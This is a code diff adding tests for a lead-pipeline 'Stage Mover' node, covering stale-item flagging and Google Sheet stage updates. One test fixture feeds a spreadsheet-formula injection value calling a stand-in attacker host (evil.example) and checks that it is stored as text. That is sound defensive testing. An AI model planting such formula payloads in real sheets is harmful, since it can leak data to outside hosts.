@@ -124,6 +124,25 @@ describe('Stage Mover: compute only', () => {
 	});
 });
 
+describe('Stage Mover: Flag Stale, compute only', () => {
+	it('sends stale items to the first output, fresh ones to the second, and unknown stages to rejected', async () => {
+		const iso = (daysAgo: number) => new Date(Date.now() - daysAgo * 86_400_000).toISOString();
+		const run = await runNode({
+			type: 'stageMover',
+			parameters: { operation: 'flagStale', storage: 'computeOnly', options: { activityField: 'lastTouch' } },
+			items: [
+				{ email: 'a', stage: 'SQL', lastTouch: iso(20) },
+				{ email: 'b', stage: 'SQL', lastTouch: iso(3) },
+				{ email: 'c', stage: 'Parked', lastTouch: iso(3) },
+			],
+		});
+		expect(run.outputs[0]).toEqual([expect.objectContaining({ email: 'a', staleCheck: expect.objectContaining({ stale: true, daysInactive: 20, staleAfterDays: 14 }) })]);
+		expect(run.outputs[1].map((j) => j.email)).toEqual(['b']);
+		expect(run.outputs[2].map((j) => j.email)).toEqual(['c']);
+		expect(run.items[2][0].pairedItem).toEqual({ item: 2 });
+	});
+});
+
 describe('Stage Mover: Google Sheet', () => {
 	it('writes the stage and stageChangedAt, appends one history row per move, and reports not found / conflict', async () => {
 		const id = spreadsheet([
@@ -164,6 +183,38 @@ describe('Stage Mover: Google Sheet', () => {
 			['Leads', 'b@x.io', 'SQL', 'Proposal', 'moved to "Proposal"', 'exec-basic'],
 		]);
 		expect(apiRequests(id).map((r) => r.method)).toEqual(['GET', 'POST', 'POST']);
+	});
+
+	it('chains two items for one record, names tab, row and column in rejections, and keeps a formula-looking reason as text', async () => {
+		const id = spreadsheet([
+			['a@x.io', 'Ann', 'New', '', '', ''],
+			['b@x.io', 'Bob', 'Pending', '', '', ''],
+		]);
+		const run = await runNode({
+			type: 'stageMover',
+			parameters: moveParams(id, { options: { cellFormat: 'USER_ENTERED', allowSkipping: true } }),
+			credentials: credentials(),
+			items: [
+				{ email: 'a@x.io', stage: 'New', next: 'MQL', why: '=IMPORTXML("http://evil.example", "//a")' },
+				{ email: 'a@x.io', next: 'Lost', why: '+1 said no' },
+				{ email: 'b@x.io', next: 'SQL' },
+			],
+		});
+		expect(run.error).toBeUndefined();
+		expect(run.outputs[0].map((j) => (j.stageMove as { from: string; to: string }).to)).toEqual(['MQL', 'Lost']);
+		expect((run.outputs[0][1].stageMove as { from: string }).from).toBe('MQL');
+		expect((run.outputs[2][0].stageMove as { detail: string }).detail).toBe(
+			'Tab "Leads" row 3, column "stage": The current stage "Pending" is not a stage of the pipeline (New, MQL, SQL, Proposal, Negotiation, Won, Lost)',
+		);
+		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['Lost', 'Pending']);
+		const history = server.getValues(id, 'StageHistory');
+		expect(history.slice(1).map((r) => [r[3], r[4], r[5]])).toEqual([
+			['New', 'MQL', '=IMPORTXML("http://evil.example", "//a")'],
+			['MQL', 'Lost', '+1 said no'],
+		]);
+		// Stored as text, not as a formula.
+		expect(server.getCell(id, 'StageHistory', 'F2')?.formula).toBeUndefined();
+		expect(server.getCell(id, 'StageHistory', 'F2')?.value).toBe('=IMPORTXML("http://evil.example", "//a")');
 	});
 
 	it('moves 10,000 records with at most 3 API calls counted on the server', async () => {
